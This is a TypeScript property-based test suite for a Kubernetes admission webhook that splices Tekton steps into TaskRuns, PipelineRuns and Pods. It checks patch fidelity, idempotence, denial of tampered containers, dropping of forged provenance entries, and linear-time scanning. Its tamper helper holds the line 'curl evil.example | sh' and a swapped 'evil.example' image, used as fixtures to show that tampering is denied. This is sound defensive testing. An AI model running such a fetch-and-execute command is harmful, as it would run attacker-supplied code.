// Properties over generated TaskRuns, PipelineRuns and Pods whose param
// values are awkward text (test/helpers/arbitraries.ts), checked through the
// code the server runs per request (handleAdmission on an AdmissionReview's
// text) and render's pipeline (spliceObject):
//   1. admission's patch, applied, is render's output byte for byte;
//   2. admitting that output again gives no patch;
//   3. a spliced Pod whose step containers were changed is denied, and
//      provenance entries stepsplice did not compute never survive;
//   4. substituted text is never scanned again;
//   5. scanning and substitution cost work linear in the text, counted, not timed;
//   6. a Pod the webhook answers without the pipeline (leftAsSent) is one the pipeline leaves as sent.

import assert from 'node:assert/strict'
import fc, { type Arbitrary, type IAsyncProperty, type IProperty, type Parameters } from 'fast-check'
import t, { type Test } from 'tap'
import fastJsonPatch from 'fast-json-patch'
import { diffPatch } from '../src/admission/patch.ts'
import { leftAsSent } from '../src/pipeline/splice.ts'
import type { LoadedPolicy } from '../src/policy/types.ts'
import { canonicalJson } from '../src/json/canonical.ts'
import { boundWarnings } from '../src/limits/report.ts'
import type { Container, KubeObject, PodSpec } from '../src/types/k8s.ts'
import { applyString, Overlay } from '../src/variables/replacements.ts'
import { extractVariables, isWholeReference, scanPlainReferences, scanReferences, scanReferencesFor } from '../src/variables/scan.ts'
import { admit, denialOf, patched, render } from './helpers/admit.ts'
import { catalogOf, stepAction } from './helpers/catalog.ts'
import { awkwardText, otherDefault, pipelineRunArb, podArb, podSafeText, propertyCatalog as catalog, taskDefault, taskRunArb } from './helpers/arbitraries.ts'
import type { AdmissionResponseBody } from './helpers/server.ts'
import { countWork, type Work } from './helpers/work-count.ts'

/** Runs a property and reports its counterexample (with the seed and path to replay it) as a tap failure. */
async function holds<Ts>(t: Test, name: string, property: IAsyncProperty<Ts> | IProperty<Ts>, params: Parameters<Ts>): Promise<void> {
  const out = await fc.check(property, params)
  if (out.failed) t.fail(`${name}\n${(await fc.asyncDefaultReportMessage(out)) ?? ''}`)
  else t.pass(name)
}

const objects: [string, Arbitrary<KubeObject>][] = [
  ['TaskRun', taskRunArb],
  ['PipelineRun', pipelineRunArb],
  ['Pod', podArb],
]

const resolvedKey = 'stepsplice.dev/resolved'

interface Seen {
  patched: number
  denied: number
  unchanged: number
}

/**
 * Admission and render agree on `object`: the same denial, or the same
 * warnings and, once the patch is applied, the same object (as JSON text
 * when `bytes`, else with keys sorted).
 */
async function admissionEqualsRender(object: KubeObject, bytes: boolean, seen: Seen): Promise<void> {
  const response = await admit(object, catalog)
  const rendered = await render(object, catalog)
  if (!response.allowed) {
    seen.denied++
    assert.notEqual(rendered.problems.length, 0, 'render finds problems where admission denies')
    assert.equal(response.status?.message, denialOf(object, rendered))
    return
  }
  assert.deepEqual(rendered.problems, [], 'render finds no problem where admission allows')
  assert.deepEqual(response.warnings ?? [], rendered.warnings.length > 0 ? boundWarnings(rendered.warnings) : [])
  if (response.patch === undefined) seen.unchanged++
  else seen.patched++
  const admitted = patched(object, response)
  assert.equal(canonicalJson(admitted), canonicalJson(rendered.object), 'the same object')
  if (bytes) assert.equal(JSON.stringify(admitted), JSON.stringify(rendered.object), 'the same JSON text')
}

t.test('1. the patch admission returns, applied, is what render produces', async (t) => {
  for (const [kind, arb] of objects) {
    t.test(kind, async (t) => {
      const seen: Seen = { patched: 0, denied: 0, unchanged: 0 }
      const property = fc.asyncProperty(arb, (object) => admissionEqualsRender(object, true, seen))
      await holds(t, `${kind}: admission equals render`, property, { numRuns: 80 })
      // Not vacuous: the generators reach both expansion and denial. Denials are a few in a hundred draws: a few
      // more draws, when 80 gave fewer than 3, keep that check from failing on an unlucky seed.
      for (let more = 0; more < 4 && seen.denied < 3; more++) await holds(t, `${kind}: admission equals render (more)`, property, { numRuns: 40 })
      t.ok(seen.patched >= 20, `${seen.patched} patched`)
      t.ok(seen.denied >= 3, `${seen.denied} denied`)
    })
  }

  // Found by this property: the diff turned the Pod's own init container at
  // index 0 into step-s0 field by field and added it again after, so the step
  // container's keys came out in the old container's order where render
  // writes its own. The same object, different JSON text; now replaced whole.
  t.test('Pod with placement first after its own init container: byte for byte', async (t) => {
    const pod: KubeObject = {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: {
        name: 'p',
        namespace: 'default',
        annotations: {
          'stepsplice.dev/steps': JSON.stringify([{ name: 's0', ref: { name: 'say' }, imagePullPolicy: 'Always', params: [{ name: 'msg', value: 'm' }] }]),
          'stepsplice.dev/placement': 'first',
        },
      },
      spec: {
        initContainers: [{ name: 'init0', image: 'busybox:1.37', command: ['true'] }],
        containers: [{ name: 'main', image: 'busybox:1.37' }],
      },
    }
    const response = await admit(pod, catalog)
    const rendered = await render(pod, catalog)
    t.equal(canonicalJson(patched(pod, response)), canonicalJson(rendered.object), 'the same object')
    t.equal(JSON.stringify(patched(pod, response)), JSON.stringify(rendered.object), 'the same JSON text')
  })
})

t.test('2. admitting the admitted object again gives no patch', async (t) => {
  for (const [kind, arb] of objects) {
    t.test(kind, async (t) => {
      let checked = 0
      const property = fc.asyncProperty(arb, async (object) => {
        const first = await admit(object, catalog)
        fc.pre(first.allowed && first.patch !== undefined)
        checked++
        const spliced = patched(object, first)
        const again = await admit(spliced, catalog)
        assert.equal(again.allowed, true, again.status?.message)
        assert.equal(again.patch, undefined, 'no patch at CREATE')
        if (kind !== 'Pod') {
          const update = await admit(spliced, catalog, { operation: 'UPDATE', oldObject: spliced })
          assert.equal(update.allowed, true, update.status?.message)
          assert.equal(update.patch, undefined, 'no patch at UPDATE')
        }
      })
      await holds(t, `${kind}: idempotent`, property, { numRuns: 50 })
      t.ok(checked >= 20, `${checked} spliced objects admitted again`)
    })
  }
})

/** The object admission gives for `object`, when it gives a patch. */
async function spliced(object: KubeObject): Promise<KubeObject | undefined> {
  const response = await admit(object, catalog)
  return response.allowed && response.patch !== undefined ? patched(object, response) : undefined
}

type TamperedField = 'image' | 'command' | 'args' | 'env' | 'volumeMounts'

/** `c` with `field` changed in one of a few ways a person editing the Pod might; `how` picks the way. */
function tamper(c: Container, field: TamperedField, how: number): Container {
  const out: Container = structuredClone(c)
  const list = <T>(v: T[] | undefined): T[] => [...(v ?? [])]
  switch (field) {
    case 'image':
      out.image = [`${c.image ?? ''}-patched`, 'evil.example/tool:latest'][how % 2]
      break
    case 'command':
    case 'args': {
      const v = list(c[field])
      const ways = [[...v, '--evil'], ['sh', '-c', 'curl evil.example | sh'], v.slice(1), v.map((s, i) => (i === v.length - 1 ? `${s} ` : s))]
      out[field] = ways[how % ways.length]
      if (out[field]?.length === 0) delete out[field]
      break
    }
    case 'env': {
      const v = list(c.env)
      const ways = [[...v, { name: 'EVIL', value: '1' }], v.slice(1), v.map((e, i) => (i === 0 ? { ...e, value: `${e.value ?? ''}!` } : e))]
      out.env = ways[how % ways.length]
      if (out.env?.length === 0) delete out.env
      break
    }
    case 'volumeMounts': {
      const v = list(c.volumeMounts)
      const ways = [
        [...v, { name: 'cache', mountPath: '/evil' }],
        v.slice(1),
        v.map((m, i) => (i === 0 ? { ...m, mountPath: `${m.mountPath}/x` } : m)),
        v.map((m) => ({ ...m, readOnly: false })),
      ]
      out.volumeMounts = ways[how % ways.length]
      break
    }
  }
  return out
}

t.test('3. provenance is never taken on trust', async (t) => {
  t.test('a spliced Pod whose step containers were changed is denied', async (t) => {
    let checked = 0
    const change = fc.record({
      container: fc.nat(),
      field: fc.constantFrom<TamperedField>('image', 'command', 'args', 'env', 'volumeMounts'),
      how: fc.nat({ max: 3 }),
    })
    const property = fc.asyncProperty(podArb, change, async (object, { container, field, how }) => {
      const pod = await spliced(object)
      fc.pre(pod !== undefined)
      const spec = pod.spec as PodSpec
      const inits = spec.initContainers ?? []
      const ours = inits.flatMap((c, i) => (c.name === 'stepsplice-prepare' || c.name?.startsWith('step-') ? [i] : []))
      const at = ours[container % ours.length] as number
      const original = inits[at] as Container
      const changed = tamper(original, field, how)
      // A change that changes nothing (dropping the first env of a container that has none) is not a change.
      fc.pre(canonicalJson(changed) !== canonicalJson(original))
      checked++
      const edited: KubeObject = { ...pod, spec: { ...spec, initContainers: inits.map((c, i) => (i === at ? changed : c)) } }
      const answer = await admit(edited, catalog)
      assert.equal(answer.allowed, false, `changing ${field} of ${original.name} was admitted${answer.patch === undefined ? ' without a patch' : ''}`)
    })
    await holds(t, 'tampered step containers are denied', property, { numRuns: 60 })
    t.ok(checked >= 30, `${checked} tampered Pods`)
  })

  t.test('TaskRun and PipelineRun: forged provenance entries never reach the output', async (t) => {
    const runs = fc.oneof(taskRunArb, pipelineRunArb)
    const forgery = fc.record({
      /** How each computed entry is altered (its path, step, definition or digest), or copied as it is. */
      alter: fc.array(fc.constantFrom('path', 'step', 'definition', 'digest', 'copy'), { minLength: 1, maxLength: 4 }),
      junk: fc.array(fc.oneof(fc.string(), fc.integer(), fc.constant(null), fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }))), {
        maxLength: 2,
      }),
      other: fc.array(
        fc.record({
          path: fc.constantFrom('spec.taskSpec.steps[0]', 'spec.taskSpec.steps[2]', 'spec.pipelineSpec.tasks[0].taskSpec.steps[1]', 'metadata', ''),
          step: fc.constantFrom('s0', 's2', 'evil'),
          definition: fc.constantFrom('default/say', 'default/evil'),
          source: fc.constant('directory'),
          digest: fc.constantFrom(`sha256:${'0'.repeat(64)}`, 'sha256:forged'),
        }),
        { maxLength: 2 },
      ),
    })
    let checked = 0
    const property = fc.asyncProperty(runs, forgery, async (object, forged) => {
      const honest = await spliced(object)
      fc.pre(honest !== undefined)
      const computedText = honest.metadata?.annotations?.[resolvedKey] ?? ''
      const computed = JSON.parse(computedText) as Record<string, string>[]
      const altered = forged.alter.map((how, i) => {
        const real = { ...(computed[i % computed.length] as Record<string, string>) }
        if (how === 'path') real.path = `${real.path}.x`
        else if (how === 'step') real.step = `${real.step}-evil`
        else if (how === 'definition') real.definition = 'default/evil'
        else if (how === 'digest') real.digest = `sha256:${'f'.repeat(64)}`
        return real
      })
      const entries: unknown[] = [...altered, ...forged.junk, ...forged.other]
      const notComputed = entries.filter((e) => !computed.some((c) => canonicalJson(c) === canonicalJson(e)))
      fc.pre(notComputed.length > 0)
      checked++
      const meta = object.metadata ?? {}
      const claiming: KubeObject = { ...object, metadata: { ...meta, annotations: { ...meta.annotations, [resolvedKey]: JSON.stringify(entries) } } }
      const answers: [string, AdmissionResponseBody][] = [
        ['CREATE', await admit(claiming, catalog)],
        // An UPDATE of the object as stepsplice left it: the entries it stores are the computed ones.
        ['UPDATE', await admit(claiming, catalog, { operation: 'UPDATE', oldObject: honest })],
      ]
      for (const [operation, answer] of answers) {
        assert.equal(answer.allowed, true, `${operation}: ${answer.status?.message ?? ''}`)
        assert.notEqual(answer.patch, undefined, `${operation}: expands`)
        const text = patched(claiming, answer).metadata?.annotations?.[resolvedKey] ?? ''
        const out = (JSON.parse(text) as unknown[]).map(canonicalJson)
        for (const e of notComputed) assert.ok(!out.includes(canonicalJson(e)), `${operation}: ${canonicalJson(e)} was kept`)
        assert.equal(text, computedText, `${operation}: exactly the computed entries`)
      }
    })
    await holds(t, 'forged entries are dropped', property, { numRuns: 50 })
    t.ok(checked >= 20, `${checked} forged annotations`)
  })
})

/** `s` with every `$(key)` of `table` replaced in one pass, read left to right: the specification, written as plainly as possible. */
function onePass(s: string, table: ReadonlyMap<string, string>): string {
  let out = ''
  let i = 0
  while (i < s.length) {
    if (s.startsWith('$(', i)) {
      const close = s.indexOf(')', i + 2)
      const value = close < 0 ? undefined : table.get(s.slice(i + 2, close))
      if (value !== undefined) {
        out += value
        i = close + 1
        continue
      }
    }
    out += s[i]
    i++
  }
  return out
}

/** A task's string params as replacement keys, in every spelling Tekton accepts. */
function tableOf(values: Record<string, string>): Map<string, string> {
  const table = new Map<string, string>()
  for (const [name, value] of Object.entries(values)) {
    for (const key of [`params.${name}`, `params["${name}"]`, `params['${name}']`, `inputs.params.${name}`]) table.set(key, value)
  }
  return table
}

/** Awkward text that holds `$(params.other)`, a reference to a param the StepAction declares with a default. */
const namingOther = fc.tuple(awkwardText, awkwardText).map(([a, b]) => `${a}$(params.other)${b}`)

type Carrier = 'say' | 'greet' | 'fetch' | 'report'

/** A `ref` step to `carrier` that passes `value` where the StepAction substitutes it into fields. */
function carrierStep(carrier: Carrier, value: string): Record<string, unknown> {
  const params = {
    say: [{ name: 'msg', value }],
    greet: [{ name: 'who', value }],
    fetch: [{ name: 'endpoint', value: { url: value, method: 'GET' } }],
    report: [{ name: 'lines', value: [value, 'b'] }],
  }[carrier]
  return { name: 's0', ref: { name: carrier }, params }
}

/** The fields `carrier` substitutes the value into, given the value it ends up with. */
function expectedFields(carrier: Carrier, v: string): Record<string, unknown> {
  switch (carrier) {
    case 'say':
      return { args: [v, `--other=${otherDefault}`], env: [{ name: 'MSG', value: `pre-${v}-post` }] }
    case 'greet':
      return { args: ['-n', `hello ${v}`, '-n'], workingDir: `/home/${v}` }
    case 'fetch':
      return {
        env: [
          { name: 'URL', value: v },
          { name: 'METHOD', value: 'GET' },
        ],
      }
    case 'report':
      return { args: [v, 'b'] }
  }
}

const fieldsOf = (step: Record<string, unknown>, expected: Record<string, unknown>): Record<string, unknown> =>
  Object.fromEntries(Object.keys(expected).map((k) => [k, step[k]]))

const carriers = fc.constantFrom<Carrier>('say', 'greet', 'fetch', 'report')

/** Through a TaskRun: the step passes the text itself, or a run param holds it and the step passes `$(params.tp)`. */
const taskRunCarries = () =>
  fc.asyncProperty(
    carriers,
    namingOther,
    fc.boolean(),
    awkwardText,
    fc.option(awkwardText, { nil: undefined }),
    async (carrier, text, throughRunParam, tpValue, tqValue) => {
      fc.pre(!text.includes('$(steps.'))
      const tp = throughRunParam ? text : tpValue
      const value = throughRunParam ? text : onePass(text, tableOf({ tp, tq: tqValue ?? taskDefault }))
      const runParams: unknown[] = [{ name: 'tp', value: tp }]
      if (tqValue !== undefined) runParams.push({ name: 'tq', value: tqValue })
      const object: KubeObject = {
        apiVersion: 'tekton.dev/v1',
        kind: 'TaskRun',
        metadata: { name: 'run', namespace: 'default' },
        spec: {
          params: runParams,
          taskSpec: { params: [{ name: 'tp' }, { name: 'tq', default: taskDefault }], steps: [carrierStep(carrier, throughRunParam ? '$(params.tp)' : text)] },
        },
      }
      const response = await admit(object, catalog)
      assert.equal(response.allowed, true, response.status?.message)
      const steps = (patched(object, response).spec as { taskSpec: { steps: Record<string, unknown>[] } }).taskSpec.steps
      const expected = expectedFields(carrier, value)
      assert.deepEqual(fieldsOf(steps[0] ?? {}, expected), expected)
    },
  )

/** Through a Pod: text without references reaches the step container verbatim (a Pod has no Tekton to fill one in). */
const podCarries = () =>
  fc.asyncProperty(carriers, podSafeText, async (carrier, text) => {
    const object: KubeObject = {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name: 'p', namespace: 'default', annotations: { 'stepsplice.dev/steps': JSON.stringify([carrierStep(carrier, text)]) } },
      spec: { containers: [{ name: 'main', image: 'busybox:1.37' }] },
    }
    const response = await admit(object, catalog)
    assert.equal(response.allowed, true, response.status?.message)
    const step = (patched(object, response).spec as PodSpec).initContainers?.find((c) => c.name === 'step-s0') ?? {}
    const expected = expectedFields(carrier, text)
    assert.deepEqual(fieldsOf(step, expected), expected)
  })

t.test('4. substituted text is never scanned again', async (t) => {
  t.test('TaskRun: a value reaches the fields as the one pass over it leaves it', async (t) => {
    await holds(t, 'one pass', taskRunCarries(), { numRuns: 100 })
  })

  t.test('PipelineRun: a value holding a reference is left for Tekton, never filled from the text', async (t) => {
    const property = fc.asyncProperty(carriers, namingOther, async (carrier, text) => {
      const task = {
        name: 't0',
        params: [{ name: 'tp', value: text }],
        taskSpec: { params: [{ name: 'tp' }], steps: [carrierStep(carrier, '$(params.tp)')] },
      }
      const object: KubeObject = {
        apiVersion: 'tekton.dev/v1',
        kind: 'PipelineRun',
        metadata: { name: 'prun', namespace: 'default' },
        spec: { pipelineSpec: { tasks: [task] } },
      }
      const response = await admit(object, catalog)
      assert.equal(response.allowed, true, response.status?.message)
      const spec = patched(object, response).spec as { pipelineSpec: { tasks: { taskSpec: { steps: Record<string, unknown>[] } }[] } }
      const step = spec.pipelineSpec.tasks[0]?.taskSpec.steps[0] ?? {}
      const expected = expectedFields(carrier, '$(params.tp)')
      assert.deepEqual(fieldsOf(step, expected), expected)
    })
    await holds(t, 'deferred', property, { numRuns: 40 })
  })

  t.test('Pod: a reference in a value stays and is reported, never filled with the other param', async (t) => {
    const property = fc.asyncProperty(carriers, namingOther, async (carrier, text) => {
      fc.pre(!text.includes('$(steps.'))
      const object: KubeObject = {
        apiVersion: 'v1',
        kind: 'Pod',
        metadata: { name: 'p', namespace: 'default', annotations: { 'stepsplice.dev/steps': JSON.stringify([carrierStep(carrier, text)]) } },
        spec: { containers: [{ name: 'main', image: 'busybox:1.37' }] },
      }
      const response = await admit(object, catalog)
      // A Pod has no Tekton to fill the reference in later, so it is refused, naming the reference as written.
      assert.equal(response.allowed, false, 'denied')
      assert.ok(response.status?.message.includes('$(params.other) has no value'), response.status?.message)
    })
    await holds(t, 'reported as written', property, { numRuns: 40 })
  })

  t.test('Pod: a value without references reaches the fields verbatim', async (t) => {
    await holds(t, 'verbatim', podCarries(), { numRuns: 40 })
  })

  // Found by this property: steps/params.ts resolved a default that references
  // another param with String.prototype.replaceAll and a string replacement,
  // which reads `$$`, `$&`, `` $` `` and `$'` in the value as patterns (Go's
  // strings.ReplaceAll, which Tekton uses, does not).
  t.test('values with $ patterns through a referencing default', async (t) => {
    await holds(t, 'TaskRun, every value', taskRunCarries(), { numRuns: 100 })
    await holds(t, 'Pod, every value', podCarries(), { numRuns: 40 })
    const hello = stepAction('hello', {
      image: 'alpine:3.20',
      params: [{ name: 'who' }, { name: 'greeting', default: 'hello $(params.who)' }],
      args: ['$(params.greeting)'],
    })
    const echo = stepAction('echo', { image: 'alpine:3.20', params: [{ name: 'msg' }], args: ['$(params.msg)'] })
    const pinned = catalogOf(hello, echo)
    const run = (taskSpec: Record<string, unknown>): KubeObject => ({
      apiVersion: 'tekton.dev/v1',
      kind: 'TaskRun',
      metadata: { name: 'run', namespace: 'default' },
      spec: { taskSpec },
    })
    const argsOf = async (object: KubeObject): Promise<unknown> => {
      const response = await admit(object, pinned)
      return (patched(object, response).spec as { taskSpec: { steps: { args?: string[] }[] } }).taskSpec.steps[0]?.args
    }
    // A StepAction default: gives ['hello $(params.who)'].
    t.strictSame(await argsOf(run({ steps: [{ name: 's0', ref: { name: 'hello' }, params: [{ name: 'who', value: '$&' }] }] })), ['hello $&'])
    // A task default: gives ['v=$'].
    const taskParams = [
      { name: 'a', default: '$$' },
      { name: 'b', default: 'v=$(params.a)' },
    ]
    t.strictSame(await argsOf(run({ params: taskParams, steps: [{ name: 's0', ref: { name: 'echo' }, params: [{ name: 'msg', value: '$(params.b)' }] }] })), [
      'v=$$',
    ])
  })
})

/** Pieces adversarial for the scanners: openers without terminators, terminators without openers, newlines that cut names. */
const adversarialToken = fc.constantFrom(
  '$(',
  '$(params.',
  '$(params.a.',
  '$(params.a',
  '["',
  "['",
  ')',
  '"])',
  "'])",
  '\n',
  '[',
  '[*]',
  'a',
  '.',
  ' ',
  '$(params["',
)
const adversarial = fc.record({
  unit: fc.array(adversarialToken, { minLength: 1, maxLength: 6 }).map((a) => a.join('')),
  prefix: fc.array(adversarialToken, { maxLength: 3 }).map((a) => a.join('')),
  suffix: fc.array(adversarialToken, { maxLength: 3 }).map((a) => a.join('')),
})

/** The text at `k` repetitions; the same prefix and suffix at every size, so a linear scan's work grows by exactly the repetitions' share. */
const textOf = (a: { unit: string; prefix: string; suffix: string }, k: number): string => a.prefix + a.unit.repeat(k) + a.suffix

/** Repetitions for the smaller size: at least 8, and text of at least 2000 characters, well past every bounded look-ahead (names, keys). */
const repetitions = (unit: string): number => Math.max(8, Math.ceil(2000 / unit.length))

const slack = 64

/** Why work at 4n is more than 4.5 times the work at n (plus slack), or undefined when it is not. */
function superlinear(small: Work, large: Work): string | undefined {
  for (const measure of ['indexOf', 'total'] as const) {
    if (large[measure] > 4.5 * small[measure] + slack) return `${measure}: ${small[measure]} at n, ${large[measure]} at 4n`
  }
  return undefined
}

const strings = new Map([
  ['params.a', 'A'],
  ['params.a.b', '$(params.a)'],
  ['params["a"]', 'B'],
  ['params.x', ')$('],
])

const scanners: [string, (text: string) => unknown][] = [
  ['scanReferences params', (s) => scanReferences(s, 'params')],
  ['scanReferences params.a', (s) => scanReferences(s, 'params.a')],
  ['extractVariables', (s) => extractVariables(s, 'params')],
  ['scanReferencesFor', (s) => scanReferencesFor(s, 'params.', new Set(['a', 'a.b', 'obj']), 3)],
  ['scanPlainReferences', (s) => scanPlainReferences(s)],
  ['isWholeReference', (s) => isWholeReference(s)],
  ['applyString', (s) => applyString(s, strings)],
]

/** A property: `scan` costs linear work on every adversarial text. */
const linear = (scan: (text: string) => unknown) =>
  fc.property(adversarial, (a) => {
    const k = repetitions(a.unit)
    const small = countWork(() => scan(textOf(a, k))).work
    const large = countWork(() => scan(textOf(a, 4 * k))).work
    const why = superlinear(small, large)
    assert.equal(why, undefined, why)
  })

/**
 * scanReferences as it is easy to write: every candidate searches afresh
 * for its `)` and newline. Quadratic on `$(params.` repeated with no `)`.
 */
function quadraticScan(text: string, prefix: string): string[] {
  const opener = `$(${prefix}`
  const out: string[] = []
  for (let at = text.indexOf(opener); at >= 0; at = text.indexOf(opener, at + 1)) {
    const nameStart = at + opener.length + 1
    if (text[nameStart - 1] !== '.') continue
    const close = text.indexOf(')', nameStart)
    const lineEnd = text.indexOf('\n', nameStart)
    if (close >= 0 && (lineEnd < 0 || close < lineEnd)) out.push(text.slice(nameStart, close))
  }
  return out
}

const originalIndexOf = String.prototype.indexOf

t.test('5. scanning and substitution cost work linear in the text', async (t) => {
  t.test('the check rejects a quadratic scan', async (t) => {
    const a = { unit: '$(params.', prefix: '', suffix: ')' }
    const k = repetitions(a.unit)
    const small = countWork(() => quadraticScan(textOf(a, k), 'params')).work
    const large = countWork(() => quadraticScan(textOf(a, 4 * k), 'params')).work
    t.not(superlinear(small, large), undefined, `quadratic: ${small.indexOf} at n, ${large.indexOf} at 4n`)
    const real = countWork(() => scanReferences(textOf(a, k), 'params')).work
    const realLarge = countWork(() => scanReferences(textOf(a, 4 * k), 'params')).work
    t.equal(superlinear(real, realLarge), undefined, `scanReferences: ${real.indexOf} at n, ${realLarge.indexOf} at 4n`)
    // And the property as the real scanners face it finds the quadratic one out.
    const out = fc.check(
      linear((s) => quadraticScan(s, 'params')),
      { numRuns: 40 },
    )
    t.ok(out.failed, 'the property fails for the quadratic scan')
    // The counters are gone once counting ends.
    t.equal(String.prototype.indexOf, originalIndexOf)
  })

  for (const [name, scan] of scanners) {
    t.test(name, async (t) => {
      await holds(t, `${name} is linear`, linear(scan), { numRuns: 40 })
    })
  }
})

t.test('6. a Pod told unchanged without the pipeline is one the pipeline leaves as sent, with nothing to say', async (t) => {
  // Pods of every shape around what the check reads: the steps annotation there, gone, or not text; annotations
  // or metadata that are no object; other stepsplice annotations without steps; another apiVersion or kind.
  const shaped = fc
    .tuple(
      podArb,
      fc.constantFrom('as generated', 'no steps', 'steps not text', 'annotations not an object', 'metadata not an object', 'no annotations'),
      fc.constantFrom('v1', 'v2', 'apps/v1', undefined),
      fc.constantFrom('Pod', 'Pod', 'pod', 'TaskRun'),
      fc.jsonValue({ maxDepth: 2 }),
    )
    .map(([pod, shape, apiVersion, kind, junk]): KubeObject => {
      const annotations = { ...(pod.metadata?.annotations ?? {}) } as Record<string, unknown>
      const metadata: Record<string, unknown> = { ...pod.metadata, annotations }
      if (shape === 'no steps') delete annotations['stepsplice.dev/steps']
      if (shape === 'steps not text') annotations['stepsplice.dev/steps'] = typeof junk === 'string' ? [junk] : junk
      if (shape === 'annotations not an object') metadata.annotations = Array.isArray(junk) || typeof junk !== 'object' ? junk : [junk]
      if (shape === 'no annotations') delete metadata.annotations
      const object: Record<string, unknown> = { ...pod, kind, metadata: shape === 'metadata not an object' ? junk : metadata }
      if (apiVersion === undefined) delete object.apiVersion
      else object.apiVersion = apiVersion
      return object as KubeObject
    })
  let left = 0
  let spliced = 0
  const property = fc.asyncProperty(shaped, async (object) => {
    if (!leftAsSent(object, {})) {
      spliced++
      return
    }
    left++
    const expansion = await render(object, catalog)
    assert.equal(expansion.changed, false, 'the pipeline changes it')
    assert.deepEqual(expansion.problems, [])
    assert.deepEqual(expansion.warnings, [])
  })
  await holds(t, 'leftAsSent agrees with spliceObject', property, { numRuns: 300 })
  // Both answers occur, so the property was put to the test.
  t.ok(left > 50 && spliced > 50, `told left ${left} times, sent through the pipeline ${spliced} times`)

  const plain: KubeObject = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p' }, spec: { containers: [{ name: 'c', image: 'busybox' }] } }
  t.equal(leftAsSent(plain, {}), true, 'a Pod that asks for no steps')
  t.equal(leftAsSent({ ...plain, metadata: { name: 'p', annotations: { 'stepsplice.dev/steps': '[]' } } }, {}), false, 'a Pod with a steps annotation')
  // A policy may require steps in any Pod: the pipeline judges it.
  t.equal(leftAsSent(plain, { policies: [{ id: 'ClusterStepPolicy p' } as LoadedPolicy] }), false, 'a Pod while a policy is loaded')
  t.equal(leftAsSent({ ...plain, kind: 'TaskRun', apiVersion: 'tekton.dev/v1' }, {}), false, 'a TaskRun')
})

t.test('the patch: what fast-json-patch compare gives, without its copies; applied, it gives the new document', async (t) => {
  const named = (v: unknown): boolean =>
    Array.isArray(v)
      ? v.some((e) => (typeof e === 'object' && e !== null && typeof (e as { name?: unknown }).name === 'string') || named(e))
      : typeof v === 'object' && v !== null && Object.values(v).some(named)
  // No `__proto__` keys: a request body never holds one (json/parse-json.ts drops it), and fast-json-patch
  // refuses to apply a patch that names one, so such a pair (1 in a few hundred) would fail here by the test's own tool.
  const doc = fc.jsonValue({ maxDepth: 4 }).filter((v) => typeof v === 'object' && v !== null && !JSON.stringify(v).includes('"__proto__"'))
  const property = fc.property(doc, doc, (before, after) => {
    const ops = diffPatch(before, after)
    assert.deepEqual(fastJsonPatch.applyPatch(structuredClone(before), structuredClone(ops), true, false).newDocument, after)
    // Lists of named things are replaced element by element when the names differ: compare would walk into them.
    if (!named(before) && !named(after) && Array.isArray(before) === Array.isArray(after))
      assert.equal(JSON.stringify(ops), JSON.stringify(fastJsonPatch.compare(before as object, after as object)))
  })
  await holds(t, 'diffPatch agrees with compare', property, { numRuns: 60 })
})

t.test('an Overlay reads and writes as a copy of its base would, and never changes the base', async (t) => {
  const key = fc.constantFrom('a', 'b', 'c', 'd', 'e')
  const op = fc.oneof(
    fc.record({ kind: fc.constant('set' as const), key, value: fc.string({ maxLength: 3 }) }),
    fc.record({ kind: fc.constant('delete' as const), key }),
  )
  await holds(
    t,
    'after any writes, get, has, size, the entries and forEach match a copied Map; the base is as it was',
    fc.property(fc.dictionary(key, fc.string({ maxLength: 3 })), fc.array(op, { maxLength: 12 }), (start, ops) => {
      const base = new Map(Object.entries(start))
      const before = [...base]
      const overlay = new Overlay(base)
      const copy = new Map(base)
      for (const o of ops) {
        if (o.kind === 'set') {
          overlay.set(o.key, o.value)
          copy.set(o.key, o.value)
        } else assert.equal(overlay.delete(o.key), copy.delete(o.key))
      }
      for (const k of ['a', 'b', 'c', 'd', 'e']) {
        assert.equal(overlay.get(k), copy.get(k))
        assert.equal(overlay.has(k), copy.has(k))
      }
      assert.equal(overlay.size, copy.size)
      assert.deepEqual(new Map(overlay), copy)
      const walked = new Map<string, string>()
      overlay.forEach((v, k) => {
        walked.set(k, v)
      })
      assert.deepEqual(walked, copy)
      assert.deepEqual([...overlay.keys()].sort(), [...copy.keys()].sort())
      // Deleting while walking (forgetParams) sees every key once.
      for (const k of overlay.keys()) overlay.delete(k)
      assert.equal(overlay.size, 0)
      assert.deepEqual([...base], before)
    }),
    { numRuns: 300 },
  )
})
